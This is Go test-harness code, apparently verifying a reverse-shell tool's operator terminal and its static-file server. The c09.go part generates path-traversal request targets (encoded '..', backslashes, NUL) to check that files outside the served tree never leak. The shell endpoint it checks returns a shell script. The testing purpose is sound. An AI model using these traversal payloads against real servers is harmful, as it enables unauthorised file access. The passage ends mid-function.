	quiesce.Wait()
	cs := fmt.Sprintf("insert:%d/line-length:%d", n, lineLen)
	var got []string
	for {
		select {
		case l := <-ts.ich:
			got = append(got, l)
			continue
		default:
		}
		break
	}
	out := ansiRE.ReplaceAllString(ts.output(), "")
	if 0 == n {
		if 0 != len(got) {
			viols = append(viols, seamViol{Sig: "insert-empty-sent", What: fmt.Sprintf("an empty insert put %d entries on the input channel", len(got)), Case: cs})
		}
		return viols, nil
	}
	switch {
	case 1 != len(got):
		lens := []int{}
		for _, g := range got {
			lens = append(lens, len(g))
		}
		viols = append(viols, seamViol{Sig: "insert-not-one-entry", What: fmt.Sprintf("a %d-byte insert entered the input channel as %d entries (lengths %v); every entry gets its own newline appended", n, len(got), lens), Case: cs})
	case got[0] != string(payload):
		viols = append(viols, seamViol{Sig: "insert-changed", What: fmt.Sprintf("a %d-byte insert arrived changed (%d bytes)", n, len(got[0])), Case: cs})
	}
	sum := sha256.Sum256(payload)
	if !strings.Contains(out, fmt.Sprintf("Inserted %d bytes", n)) || !strings.Contains(out, fmt.Sprintf("SHA256: %x", sum)) {
		viols = append(viols, seamViol{Sig: "insert-report", What: fmt.Sprintf("the operator was not told the size and hash of what was inserted: %q", trunc80(out)), Case: cs})
	}
	return viols, nil
}

// c02InsertTwiceRun presses Ctrl+I twice with nobody attached; between the
// two the insert source reuses its buffer for new content of the same length
// (as a source that keeps one buffer does).  Both queued lines are what was
// inserted when the key was pressed.
func c02InsertTwiceRun(capPath string, n int) (viols []seamViol, err error) {
	buf := make([]byte, n)
	fill := func(alpha string) string {
		for i := range buf {
			buf[i] = alpha[i%len(alpha)]
		}
		return string(buf)
	}
	first := fill("abcdefghijklmnopqrstuvwxyz\n")
	ts, err := newTermSessionOpts(capPath, true, buf, false)
	if nil != err {
		return nil, err
	}
	defer ts.close()
	quiesce.Wait()
	ts.sh.VerifKey(0x09)
	quiesce.Wait()
	second := fill("ZYXWVUTSRQPONMLKJIHGFEDCBA\n")
	ts.sh.VerifKey(0x09)
	quiesce.Wait()
	var got []string
	for more := true; more; {
		select {
		case l := <-ts.ich:
			got = append(got, l)
		default:
			more = false
		}
	}
	if 2 != len(got) || got[0] != first || got[1] != second {
		what := fmt.Sprintf("%d entries queued", len(got))
		if 2 == len(got) {
			what = fmt.Sprintf("first entry intact: %v (begins %q), second intact: %v (begins %q)", got[0] == first, trunc80(got[0]), got[1] == second, trunc80(got[1]))
		}
		viols = append(viols, seamViol{Sig: "queued-insert-changed", What: fmt.Sprintf("Ctrl+I twice with no shell attached, %d bytes each, the source reusing its buffer in between: %s", n, what), Case: fmt.Sprintf("insert-twice:%d", n)})
	}
	return viols, nil
}

// c02TypedRun pastes n lines into the terminal in one go and checks that they
// enter the input channel once each, in the order typed.
func c02TypedRun(capPath string, n int) (viols []seamViol, err error) {
	ts, err := newTermSessionOpts(capPath, true, nil, false)
	if nil != err {
		return nil, err
	}
	defer ts.close()
	quiesce.Wait()
	var (
		want  []string
		paste strings.Builder
	)
	for i := 0; i < n; i++ {
		l := fmt.Sprintf("typed line %03d with \"quotes\" and a trailing blank ", i)
		switch i % 5 {
		case 2:
			/* Enter on an empty prompt is a line like any other (C02-U). */
			l = ""
		case 4:
			l = " "
		}
		want = append(want, l)
		paste.WriteString(l + "\r")
	}
	if strings.Contains(ts.output(), "\x1b[?2004h") {
		/* The program has asked the terminal to bracket what is pasted, and
		a terminal that knows how does. */
		ts.stdinW.Write([]byte("\x1b[200~" + paste.String() + "\x1b[201~"))
	} else {
		ts.stdinW.Write([]byte(paste.String()))
	}
	/* The Shell reads its terminal in a blocking read, which looks
	quiescent from outside: wait for the entries themselves (the watchdog
	only ends a run in which some never come). */
	var got []string
	watchdog := time.After(20 * time.Second)
collect:
	for len(got) < n {
		select {
		case l := <-ts.ich:
			got = append(got, l)
		case <-watchdog:
			break collect
		}
	}
	quiesce.Wait()
	for more := true; more; {
		select {
		case l := <-ts.ich:
			got = append(got, l)
		default:
			more = false
		}
	}
	cs := fmt.Sprintf("typed:%d", n)
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		sig := "typed-lines-changed"
		switch {
		case len(got) < len(want):
			sig = "typed-lines-lost"
		case len(got) == len(want):
			a, b := append([]string{}, got...), append([]string{}, want...)
			sort.Strings(a)
			sort.Strings(b)
			if strings.Join(a, "\n") == strings.Join(b, "\n") {
				sig = "typed-lines-reordered"
			}
		}
		viols = append(viols, seamViol{Sig: sig, What: fmt.Sprintf("%d lines pasted into the terminal entered the input channel as %d entries, first difference at %d (got %q)", n, len(got), firstDiffLines(got, want), trunc80(strings.Join(got, "|"))), Case: cs})
	}
	return viols, nil
}

func firstDiffLines(a, b []string) int {
	for i := range a {
		if i >= len(b) || a[i] != b[i] {
			return i
		}
	}
	return len(a)
}

// termSeamWorker: termseam <c03|c02> <maxlen> <scratch>
func termSeamWorker(args []string) int {
	runtime.GOMAXPROCS(1)
	mode, dir := args[0], args[2]
	var maxLen int
	fmt.Sscan(args[1], &maxLen)
	capPath := filepath.Join(dir, fmt.Sprintf("seam-%d", os.Getpid()))
	defer os.Remove(capPath)
	var res seamResult
	seen := map[string]bool{}
	add := func(vs []seamViol) {
		for _, v := range vs {
			if !seen[v.Sig] {
				seen[v.Sig] = true
				res.Viols = append(res.Viols, v)
			}
		}
	}
	alphabet := seamAlphabet
	switch mode {
	case "c03color":
		/* Output that carries escape sequences of its own (ls --color, a
		prompt, a progress bar), whole and split over two chunks: the
		terminal gets these bytes as they are, whatever the program thinks
		of colours itself (the worker is started with NO_COLOR set). */
		for k, chunks := range [][]string{
			{"one \x1b[31mRED\x1b[0m two\n"},
			{"three \x1b[3", "2mGREEN\x1b[0m four\n"},
			{"\x1b[1;34mblue\x1b[m", " \x1b[K\x1b[2Jdone\n"},
		} {
			ts, err := newTermSessionOpts(capPath, true, nil, false)
			if nil != err {
				res.Err = err.Error()
				break
			}
			quiesce.Wait()
			ts.output()
			want := ""
			for _, c := range chunks {
				ts.och <- opshell.CLine{Plain: true, Line: c}
				want += strings.ReplaceAll(c, "\n", "\r\n")
				quiesce.Wait()
			}
			got := ts.output()
			ts.close()
			res.Execs++
			if !strings.Contains(got, want) {
				add([]seamViol{{Sig: "shell-escape-sequences-changed", What: fmt.Sprintf("the shell sent %q; the terminal received %q", chunks, got), Case: fmt.Sprintf("c03color:%d", k)}})
			}
		}
	case "c03u":
		/* For a worker started in a UTF-8 locale. */
		alphabet = "PQUNS"
		fallthrough
	case "c03":
		var seqs []string
		var rec func(cur string)
		rec = func(cur string) {
			if "" != cur {
				seqs = append(seqs, cur)
			}
			if len(cur) == maxLen {
				return
			}
			for _, k := range alphabet {
				rec(cur + string(k))
			}
		}
		rec("")
		for _, regime := range []string{"stepwise", "burst", "backlog-before-start"} {
			for _, s := range seqs {
				vs, err := seamRun(capPath, s, regime)
				if nil != err {
					res.Err = err.Error()
					break
				}
				res.Execs++
				res.Steps += len(s)
				add(vs)
			}
		}
		if "c03u" == mode {
			break
		}
		if vs, err := c03ChokedRun(capPath); nil != err {
			res.Err = err.Error()
		} else {
			res.Execs++
			add(vs)
		}
	case "c10":
		/* Notices carrying percent signs reach the terminal verbatim. */
		for _, text := range c10Strings(append(append([]string{}, c10Raw...), c10Escapes...), 2) {
			line := "[203.0.113.9] File requested: /zz" + text + "?q=" + text
			ts, err := newTermSessionOpts(capPath, true, nil, false)
			if nil != err {
				res.Err = err.Error()
				break
			}
			quiesce.Wait()
			ts.output()
			ts.och <- opshell.CLine{Line: line, Color: opshell.ColorBlue}
			ts.och <- opshell.CLine{Plain: true, Line: "plain " + text + "\n"}
			quiesce.Wait()
			got := ansiRE.ReplaceAllString(ts.output(), "")
			ts.close()
			res.Execs++
			if !strings.Contains(got, line+"\r\n") || !strings.Contains(got, "plain "+text+"\r\n") {
				add([]seamViol{{Sig: "notice-changed-on-the-way-to-the-terminal", What: fmt.Sprintf("the notice %q (and the chunk %q) reached the terminal as %q", line, "plain "+text, got), Case: "c10:" + text}})
			}
		}
	case "c02i2":
		/* Inserts whose lines are long (a one-line blob, a minified script)
		or which have no newline at all. */
		for _, shape := range [][2]int{{61, 0}, {100, 0}, {5000, 0}, {300, 100}, {5000, 1000}, {200, 61}, {70000, 0}} {
			vs, err := c02InsertShaped(capPath, shape[0], shape[1])
			if nil != err {
				res.Err = err.Error()
				break
			}
			res.Execs++
			add(vs)
		}
		for _, n := range []int{27, 4096, 40000} {
			vs, err := c02InsertTwiceRun(capPath, n)
			if nil != err {
				res.Err = err.Error()
				break
			}
			res.Execs++
			add(vs)
		}
	case "c02t":
		/* For a worker started with another TERM: the typed lines only. */
		for _, n := range []int{1, 2, 3, 8, 24} {
			vs, err := c02TypedRun(capPath, n)
			if nil != err {
				res.Err = err.Error()
				break
			}
			res.Execs++
			add(vs)
		}
	case "c02":
		/* Lines typed (or pasted) on the terminal: every burst size, the
		whole burst handed to the Shell in one write. */
		for _, n := range []int{1, 2, 3, 8, 24, 100} {
			vs, err := c02TypedRun(capPath, n)
			if nil != err {
				res.Err = err.Error()
				break
			}
			res.Execs++
			add(vs)
		}
		for _, n := range []int{0, 1, 27, 4096, 32767, 32768, 32769, 65536, 65537, 100000, 1 << 20} {
			vs, err := c02InsertRun(capPath, n)
			if nil != err {
				res.Err = err.Error()
				break
			}
			res.Execs++
			add(vs)
		}
	}
	w := bufio.NewWriter(realStdout)
	json.NewEncoder(w).Encode(res)
	w.Flush()
	if "" != res.Err {
		return 2
	}
	return 0
}

// runTermSeam runs the worker and folds its findings into r.
func runTermSeam(r *ev.Result, mode string, maxLen int, kind string) {
	runTermSeamEnv(r, mode, maxLen, kind, nil)
}

// runTermSeamEnv is runTermSeam with the worker in a changed environment (the
// operator's TERM, locale, NO_COLOR; see runCttyWorkerEnv).
func runTermSeamEnv(r *ev.Result, mode string, maxLen int, kind string, env []string) {
	base := ev.Scratch("seam-")
	defer os.RemoveAll(base)
	out, err := runCttyWorkerEnv(env, "termseam", mode, fmt.Sprint(maxLen), base)
	var res seamResult
	if jerr := json.Unmarshal(out, &res); nil != jerr || nil != err || "" != res.Err {
		ev.Broken("terminal-seam worker: %v %v %s %q", err, jerr, res.Err, trunc80(string(out)))
	}
	r.Evaluations += res.Execs
	r.Distinct += res.Execs
	r.Traces += res.Execs
	label := ""
	if nil != env {
		for i, e := range env {
			if i > 0 {
				label += ","
			}
			label += e
			if !strings.Contains(e, "=") {
				label += " unset"
			}
		}
		prev, _ := r.Get("terminal_seam_executions_by_environment").(map[string]int)
		if nil == prev {
			prev = map[string]int{}
		}
		prev[label] = res.Execs
		r.Set("terminal_seam_executions_by_environment", prev)
	} else {
		r.Set("terminal_seam_executions", res.Execs)
	}
	for _, v := range res.Viols {
		sig, what := "terminal/"+v.Sig, v.What
		if "" != label {
			sig += "/" + label
			what = "with " + label + " in the environment: " + what
		}
		r.Violate(ev.Violation{Signature: sig, What: what, Kind: kind, Replay: map[string]string{"terminal_case": v.Case, "environment": label}})
	}
}

// c03ChokedRun: a terminal that stops taking bytes in the middle of a write
// (its descriptor has been put into non-blocking mode behind the program's
// back and its buffer is full): the write comes back short with EAGAIN.
// Whatever the program makes of that, what the terminal has received when it
// is read out later is a prefix of what the shell sent: nothing twice.
func c03ChokedRun(capPath string) (viols []seamViol, err error) {
	ts, err := newTermSessionOpts(capPath, true, nil, true)
	if nil != err {
		return nil, err
	}
	/* A pipe the runtime's poller knows nothing about (os.Pipe would make
	it wait for room instead of reporting EAGAIN, as it does for a terminal
	it has opened itself). */
	var fds [2]int
	if err := syscall.Pipe2(fds[:], syscall.O_CLOEXEC); nil != err {
		ts.close()
		return nil, err
	}
	pr, pw := os.NewFile(uintptr(fds[0]), "terminal-master"), os.NewFile(uintptr(fds[1]), "terminal")
	defer pr.Close()
	const fSetPipeSz = 1031
	syscall.Syscall(syscall.SYS_FCNTL, uintptr(fds[1]), fSetPipeSz, 4096)
	syscall.SetNonblock(fds[1], true) /* pw itself goes on believing it is a blocking file */
	os.Stdout = pw
	ts.start()
	quiesce.Wait()
	want := ""
	for i := 0; i < 6; i++ {
		/* (Longer than PIPE_BUF: shorter writes to a pipe are all or nothing.) */
		s := fmt.Sprintf("<chunk %02d>%s\n", i, strings.Repeat(string(rune('a'+i)), 6000))
		want += strings.ReplaceAll(s, "\n", "\r\n")
		ts.och <- opshell.CLine{Plain: true, Line: s}
	}
	/* (No waiting for quiescence here: a program that keeps trying never
	settles.  Too short a pause only means less has been written: still a
	prefix.) */
	time.Sleep(300 * time.Millisecond)
	/* Now the terminal takes everything there is, for a while. */
	got := make(chan string, 1)
	go func() {
		var sb strings.Builder
		buf := make([]byte, 65536)
		for {
			n, err := pr.Read(buf)
			sb.Write(buf[:n])
			if nil != err {
				break
			}
		}
		got <- sb.String()
	}()
	/* While the terminal is being read out the shell goes on talking: a
	program that gave up on the terminal shows none of that, one that
	carries on must not have left a hole before it. */
	time.Sleep(100 * time.Millisecond)
	for i := 6; i < 9; i++ {
		s := fmt.Sprintf("<chunk %02d>%s\n", i, strings.Repeat(string(rune('a'+i)), 600))
		want += strings.ReplaceAll(s, "\n", "\r\n")
		select {
		case ts.och <- opshell.CLine{Plain: true, Line: s}:
		default:
		}
	}
	/* Half a second of reading out, then the terminal is gone. */
	time.Sleep(500 * time.Millisecond)
	os.Stdout = ts.capture
	pw.Close()
	ts.close()
	shown := ansiRE.ReplaceAllString(<-got, "")
	if "" != os.Getenv("VERIF_DEBUG_CHOKED") {
		fmt.Fprintf(os.Stderr, "choked: shown %d bytes, want %d, prefix %v\n", len(shown), len(want), strings.HasPrefix(want, shown))
	}
	if !strings.HasPrefix(want, shown) {
		i := 0
		for i < len(shown) && i < len(want) && shown[i] == want[i] {
			i++
		}
		viols = append(viols, seamViol{Sig: "terminal-repeats-bytes/choked-terminal", Case: "choked",
			What: fmt.Sprintf("a terminal that took only part of a write (EAGAIN) and was read out later holds %d bytes that are not a prefix of the %d bytes the shell sent: they differ from byte %d on (terminal: %q, sent: %q)", len(shown), len(want), i, trunc80(shown[max(0, i-20):]), trunc80(want[max(0, i-20):]))})
	}
	return viols, nil
}
