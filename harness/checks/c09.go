package checks

/*
 * C09 — static files are confined to the chosen tree and never shadow shell
 * endpoints.  Every request target built from up to K segments over a hostile
 * segment set, with three prefixes and three suffixes, is sent as a raw
 * request line over real TLS to the real server in each configuration
 * (directory x 3 trees, single file, unset); canary files sit just outside
 * the tree.
 */

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime/debug"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

func init() {
	registry["C09"] = checkDef{level: "exploration", run: c09, replay: c09Replay}
}

type c09Case struct {
	Config string `json:"config"` /* dir:<tree> | file | unset */
	Target string `json:"target"`
}

var c09SegsQuick = []string{"..", ".", "", "a", "sub", "%2e%2e", "%252e%252e", "..%2f", "\\", "%5c", "c", "OUTSIDE-canary.txt", "x", "index.html"}

// c09SiblingTargets aims at the prefix-named siblings of tree through every
// spelling of ".." that survives the mux.
func c09SiblingTargets(tree string) []string {
	var out []string
	for _, dd := range []string{"..", "%2e%2e", ".%2e", "%2e.", "%2E%2E", "..%2f", "%2e%2e%2f"} {
		for _, sib := range []string{tree + "-old/a", tree + ".bak", tree + "x/a", tree + "-old/", tree + "x"} {
			sep := "/"
			if strings.HasSuffix(dd, "%2f") {
				sep = ""
			}
			out = append(out, "/"+dd+sep+sib, "/a/"+dd+"/"+dd+sep+sib, "//"+dd+sep+sib, "/sub/"+dd+"/"+dd+sep+sib)
		}
	}
	return out
}

var c09SegsMore = []string{"%2E%2E", "%2f", "..\\", "%00", "i", "o", "io", "OUTSIDE-sibling", strings.Repeat("L", 4096)}

// c09Targets enumerates the raw request targets.
func c09Targets(segs []string, maxSeg int) []string {
	var paths []string
	var rec func(cur []string)
	rec = func(cur []string) {
		if 0 != len(cur) {
			paths = append(paths, strings.Join(cur, "/"))
		}
		if len(cur) == maxSeg {
			return
		}
		for _, s := range segs {
			rec(append(cur, s))
		}
	}
	rec(nil)
	var out []string
	for _, p := range paths {
		for _, pre := range []string{"/", "//", "https://x/"} {
			for _, suf := range []string{"", "/", "?q"} {
				out = append(out, pre+p+suf)
			}
		}
	}
	/* The canonical spellings of the shell endpoints and the root. */
	out = append(out, "/", "/c", "/c?c2=h.example", "/i/x", "/o/x", "/io", "/io/", "/i/", "/o/", "/i", "/o", "/c/", "*")
	/* /c with queries its handler cannot make sense of: still /c. */
	out = append(out, "/c?x=%zz", "/c?%", "/c?a=1;b=2", "/c?c2=%zz", "/c?c2=")
	/* Files asked for with other methods: whatever is served is reported. */
	for _, m := range []string{"POST", "PUT", "DELETE", "FOO"} {
		for _, t := range []string{"/a", "/x", "/", "/sub/a"} {
			out = append(out, m+" "+t)
		}
	}
	/* The shell endpoints with other methods (a target written "METHOD /path"). */
	for _, m := range []string{"POST", "PUT", "DELETE", "OPTIONS"} {
		for _, t := range []string{"/c", "/i/x", "/o/x", "/io"} {
			out = append(out, m+" "+t)
		}
	}
	return out
}

// c09BuildTrees creates the three trees with canaries around them and
// returns root.
func c09BuildTrees(base string) string {
	root := filepath.Join(base, "root")
	w := func(rel, content string) {
		p := filepath.Join(root, rel)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); nil != err {
			ev.Broken("%s", err)
		}
	}
	w("OUTSIDE-canary.txt", "CANARY:parent\n")
	w("OUTSIDE-sibling/a", "CANARY:sibling-a\n")
	w("OUTSIDE-sibling/OUTSIDE-canary.txt", "CANARY:sibling\n")
	w("a", "CANARY:parent-a\n")
	w("c", "CANARY:parent-c\n")
	for _, t := range []string{"flat", "nested", "shadow"} {
		w(t+"/a", "IN:"+t+":a\n")
		w(t+"/x", "IN:"+t+":x\n")
		/* Siblings whose names begin with the tree's name. */
		w(t+"-old/a", "CANARY:"+t+"-old\n")
		w(t+".bak", "CANARY:"+t+".bak\n")
		w(t+"x/a", "CANARY:"+t+"x\n")
	}
	w("nested/sub/a", "IN:nested:sub/a\n")
	w("nested/sub/sub/a", "IN:nested:sub/sub/a\n")
	w("nested/sub/x", "IN:nested:sub/x\n")
	w("shadow/c", "IN:shadow:c\n")
	w("shadow/io", "IN:shadow:io\n")
	w("shadow/i/x", "IN:shadow:i/x\n")
	w("shadow/o/x", "IN:shadow:o/x\n")
	w("shadow/sub/c", "IN:shadow:sub/c\n")
	/* The single file is named through a symbolic link (payload ->
	build/payload-v3); single-file mode on a plain path is what the
	concurrency and descriptor scenarios use. */
	os.Symlink(filepath.Join("flat", "a"), filepath.Join(root, "single-file-link"))
	return root
}

func c09FDir(root, config string) string {
	switch {
	case strings.HasPrefix(config, "dir:"):
		return filepath.Join(root, strings.TrimPrefix(config, "dir:"))
	case "file" == config:
		return filepath.Join(root, "single-file-link")
	}
	return ""
}

// c09Judge checks one response and the notices it caused.
func c09Judge(r *ev.Result, c c09Case, res *hworld.Response, notices []opshell.CLine) {
	v := func(sig, what string) {
		r.Violate(ev.Violation{Signature: sig + "/" + strings.SplitN(c.Config, ":", 2)[0], What: fmt.Sprintf("config %s, target %q: %s (status %d, body %q, notices %s)", c.Config, trunc80(c.Target), what, res.Status, trunc80(string(res.Body)), trunc80(hworld.NoticeText(notices))), Kind: "c09", Replay: c})
	}
	nFile, shell := 0, false
	for _, cl := range notices {
		switch {
		case strings.Contains(cl.Line, "File requested: "):
			nFile++
		case strings.Contains(cl.Line, "Rejected "), strings.Contains(cl.Line, "Sent script: "), strings.Contains(cl.Line, "Could not determine callback URL"):
			shell = true
		}
	}
	body := res.Body
	if bytes.Contains(body, []byte("CANARY:")) {
		v("canary-served", "the response carries the content of a file outside the tree")
	}
	if 200 == res.Status && bytes.Contains(body, []byte("<pre>")) && bytes.Contains(body, []byte("OUTSIDE-")) {
		v("outside-listing", "the response lists a directory outside the tree")
	}
	if 431 == res.Status && len(c.Target) < 100_000 {
		v("refused-for-size", fmt.Sprintf("a request of %d bytes was answered 431 and never reached the program (net/http's own limit is 1 MiB): non-shell paths of that length get neither the file nor a 404, and are not reported", len(c.Target)))
	}
	is2xx := res.Status >= 200 && res.Status < 300
	hasFile := bytes.Contains(body, []byte("IN:"))
	if shell && hasFile {
		v("shell-endpoint-shadowed", "a request handled by a shell endpoint returned file content")
	}
	if nFile > 1 {
		v("file-notice-count", fmt.Sprintf("%d 'File requested' notices for one request", nFile))
	}
	if hasFile && 0 == nFile {
		v("file-not-reported", "file content was served without a 'File requested' notice")
	}
	switch {
	case "unset" == c.Config:
		if is2xx && !shell {
			v("unset-serves", "a non-shell target was answered 2xx although no files are served")
		}
		if 0 != nFile || hasFile {
			v("unset-file-handler", "the file handler ran although no files are served")
		}
	case "file" == c.Config:
		/* A plain path with a query: the single file, whatever the query. */
		if (strings.HasPrefix(c.Target, "/a?") || strings.HasPrefix(c.Target, "/no-such-file?")) && len(c.Target) < 64 && (200 != res.Status || "IN:flat:a\n" != string(body) || 1 != nFile) {
			v("single-file-not-returned", fmt.Sprintf("a non-shell path with the query %q did not get the configured file, reported once", c.Target[strings.Index(c.Target, "?"):]))
		}
		if 200 == res.Status && !shell && "IN:flat:a\n" != string(body) {
			v("single-file-other-body", "a non-shell 200 response is not the configured file")
		}
		/* Whatever reached the file handler must have got the file. */
		if 0 != nFile && (200 != res.Status || "IN:flat:a\n" != string(body)) {
			v("single-file-not-returned", "the file handler ran but the answer is not the configured file")
		}
	default:
		if strings.HasPrefix(c.Target, "/a?") && len(c.Target) < 64 && strings.HasSuffix(c.Config, ":flat") && (200 != res.Status || 1 != nFile || !hasFile) {
			v("file-not-served", fmt.Sprintf("the file /a of the tree, requested with the query %q, was not served and reported once", c.Target[2:]))
		}
		if 200 == res.Status && !shell {
			if 1 != nFile {
				v("file-not-reported", fmt.Sprintf("a file response with %d 'File requested' notices", nFile))
			}
			tree := strings.TrimPrefix(c.Config, "dir:")
			if hasFile && !bytes.Contains(body, []byte("IN:"+tree+":")) {
				v("other-tree-content", "content of a file of another tree was served")
			}
			if !hasFile && !bytes.Contains(body, []byte("<pre>")) {
				v("unknown-200-body", "a 200 response is neither a file of the tree nor a listing")
			}
		}
	}
	/* The canonical shell targets keep their meaning, whatever the method. */
	ct := c.Target
	if _, rest, ok := strings.Cut(ct, " "); ok && !strings.HasPrefix(ct, "/") {
		ct = rest
	}
	switch ct {
	case "/c", "/c?c2=h.example", "/i/x", "/o/x", "/io", "/io/":
		if !shell {
			v("shell-endpoint-lost", "a shell endpoint did not act as one")
		}
		if strings.HasPrefix(ct, "/c") && !bytes.HasPrefix(body, []byte("#!/bin/sh")) {
			v("shell-endpoint-lost", "/c did not return a script")
		}
	}
	if strings.HasPrefix(ct, "/c?") && (hasFile || 0 != nFile) {
		v("shell-endpoint-shadowed", "a request for /c (with a query) was answered by the file handler")
	}
}

func c09(r *ev.Result, tier string) {
	segs, maxSeg := c09SegsQuick, 3
	if !isQuick(tier) {
		segs = append(append([]string{}, c09SegsQuick...), c09SegsMore...)
	}
	targets := c09Targets(segs, maxSeg)
	if !isQuick(tier) {
		/* four segments over the core set */
		targets = append(targets, c09Targets([]string{"..", "", "a", "sub", "%2e%2e", "..%2f", "c", "OUTSIDE-canary.txt"}, 4)...)
	}
	configs := []string{"dir:flat", "dir:nested", "dir:shadow", "file", "unset"}
	r.Rule = fmt.Sprintf("every target made of <=%d segments over %d segments (dot-segments, encoded and double-encoded dots, encoded slashes, backslashes, NUL, empty, shell-endpoint names, names of the canaries, a 4 KiB segment) "+
		"x prefixes {/, //, absolute-form} x suffixes {none, /, ?q}, as raw request lines over TLS, against %v; input and output are held attached so that shell endpoints answer at once; "+
		"distinct = distinct (configuration, target)", maxSeg, len(segs), configs)
	base := ev.Scratch("c09-")
	defer os.RemoveAll(base)
	root := c09BuildTrees(base)

	type job struct {
		cfg    string
		lo, hi int
	}
	var jobs []job
	const chunk = 4000
	for _, cfg := range configs {
		for lo := 0; lo < len(targets); lo += chunk {
			jobs = append(jobs, job{cfg, lo, min(lo+chunk, len(targets))})
		}
	}
	var mu sync.Mutex
	statuses := map[string]int{}
	parallel(len(jobs), func(ji int) {
		j := jobs[ji]
		w, err := hworld.Start(hworld.Config{FDir: c09FDir(root, j.cfg)})
		if nil != err {
			ev.Broken("start: %s", err)
		}
		defer w.Stop()
		/* Hold both directions so shell endpoints refuse at once. */
		for _, ep := range []string{"/i/held", "/o/held"} {
			c, err := w.Dial("")
			if nil != err {
				ev.Broken("%s", err)
			}
			defer c.Close()
			if "/i/held" == ep {
				c.Send(hworld.Get(ep, w.Addr))
			} else {
				c.Send("POST " + ep + " HTTP/1.1\r\nHost: " + w.Addr + "\r\nTransfer-Encoding: chunked\r\n\r\n")
			}
			if _, ok := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "connected: ID") }); !ok {
				ev.Broken("hold %s", ep)
			}
		}
		w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Shell is ready") })
		var conn *hworld.Conn
		local := map[string]int{}
		ts := targets[j.lo:j.hi]
		if 0 == j.lo && strings.HasPrefix(j.cfg, "dir:") {
			ts = append(append([]string{}, ts...), c09SiblingTargets(strings.TrimPrefix(j.cfg, "dir:"))...)
		}
		if 0 == j.lo {
			/* Long targets (far below net/http's own 1 MiB limit): a long
			path, and a short path with a long query. */
			long := strings.Repeat("long-segment-", 1000)
			ts = append(append([]string{}, ts...), "/"+long, "/a?q="+long, "/sub/"+long+"/../../a")
			/* Query parameters with names a server might come to give a
			meaning to: a file request all the same. */
			for _, q := range []string{"t=1", "token=x", "id=1", "key=v", "a=b&t=z", "%74=%31", "auth=1", "dl=1", "raw", "download=1"} {
				ts = append(ts, "/a?"+q, "/no-such-file?"+q)
			}
		}
		for _, t := range ts {
			method := "GET"
			if m, rest, ok := strings.Cut(t, " "); ok && !strings.HasPrefix(t, "/") {
				method, t = m, rest
			}
			raw := method + " " + t + " HTTP/1.1\r\nHost: " + w.Addr + "\r\nContent-Length: 0\r\n\r\n"
			var res *hworld.Response
			for try := 0; try < 2; try++ {
				if nil == conn {
					if conn, err = w.Dial(""); nil != err {
						ev.Broken("dial: %s", err)
					}
				}
				if res, err = conn.Do(raw); nil == err {
					break
				}
				conn.Close()
				conn = nil
			}
			if nil == res {
				ev.Broken("request %q: %v", trunc80(t), err)
			}
			c09Judge(r, c09Case{Config: j.cfg, Target: t}, res, w.Drain())
			local[fmt.Sprint(res.Status)]++
			/* A redirect to the cleaned spelling is followed once, as a
			client would: that is where the file would be served from. */
			if loc := res.Header.Get("Location"); 301 == res.Status && strings.HasPrefix(loc, "/") && !strings.ContainsAny(loc, " \r\n") {
				if !(strings.EqualFold(res.Header.Get("Connection"), "close")) {
					if res2, err := conn.Do("GET " + loc + " HTTP/1.1\r\nHost: " + w.Addr + "\r\n\r\n"); nil == err {
						c09Judge(r, c09Case{Config: j.cfg, Target: loc}, res2, w.Drain())
						local["followed "+fmt.Sprint(res2.Status)]++
						res = res2
					} else {
						conn.Close()
						conn = nil
						continue
					}
				}
			}
			if strings.EqualFold(res.Header.Get("Connection"), "close") || res.Status >= 400 && res.Status != 404 {
				conn.Close()
				conn = nil
			}
		}
		if nil != conn {
			conn.Close()
		}
		mu.Lock()
		for k, n := range local {
			statuses[j.cfg+" "+k] += n
		}
		r.Evaluations += j.hi - j.lo
		r.Distinct += j.hi - j.lo
		mu.Unlock()
	})
	/* A stalled operator: file requests are reported, every one, even when
	the operator's queue is full (the requests wait; none is served
	unreported). */
	c09Stalled(r, root)
	/* Single-file mode under concurrent requests, and after the file was
	replaced. */
	c09SingleFileConcurrent(r, root)
	c09Descriptors(r, root)
	c09StalledDownload(r, root)
	c09NoticeBurst(r, root)
	c09EndpointDirs(r, root)
	c09RealEmptyFlag(r, root)
	r.Set("responses_by_config_and_status", statuses)
	r.Set("targets", len(targets))
	r.Sample(5, c09Case{Config: "dir:nested", Target: "//sub/%2e%2e/..%2f/OUTSIDE-canary.txt"})
	r.Sample(5, c09Case{Config: "dir:shadow", Target: "/io"})
	r.Sample(5, c09Case{Config: "unset", Target: "https://x/a/../c?q"})
	r.Assume("symbolic links inside the served tree are outside the statement's quantifier (http.Dir follows them by design)")
	r.Assume("net/http answers malformed targets itself (400) and redirects unclean paths (301) before any handler runs; those responses are only checked for leaking content")
}

func c09Stalled(r *ev.Result, root string) {
	const cap, n = 8, 40
	w, err := hworld.Start(hworld.Config{FDir: filepath.Join(root, "flat"), OchCap: cap})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	w.Drain()
	type result struct {
		status int
		body   string
	}
	results := make(chan result, n)
	for i := 0; i < n; i++ {
		go func(i int) {
			c, err := w.Dial("")
			if nil != err {
				results <- result{-1, err.Error()}
				return
			}
			defer c.Close()
			res, err := c.Do(hworld.Get(fmt.Sprintf("/a?req=%d", i), w.Addr))
			if nil != err {
				results <- result{-1, err.Error()}
				return
			}
			results <- result{res.Status, string(res.Body)}
		}(i)
	}
	/* Nobody reads the operator channel for a moment; then it is read
	slowly until every request has been answered. */
	time.Sleep(300 * time.Millisecond)
	reported, served := 0, 0
	deadline := time.After(hworld.Watchdog)
	for served < n {
		select {
		case res := <-results:
			served++
			if 200 != res.status || !strings.Contains(res.body, "IN:flat:a") {
				r.Violate(ev.Violation{Signature: "stalled-operator/request-failed", What: fmt.Sprintf("a file request failed while the operator was slow: %d %q", res.status, trunc80(res.body)), Kind: "c09", Replay: c09Case{Config: "dir:flat", Target: "/a (stalled operator)"}})
			}
		case cl := <-w.Och:
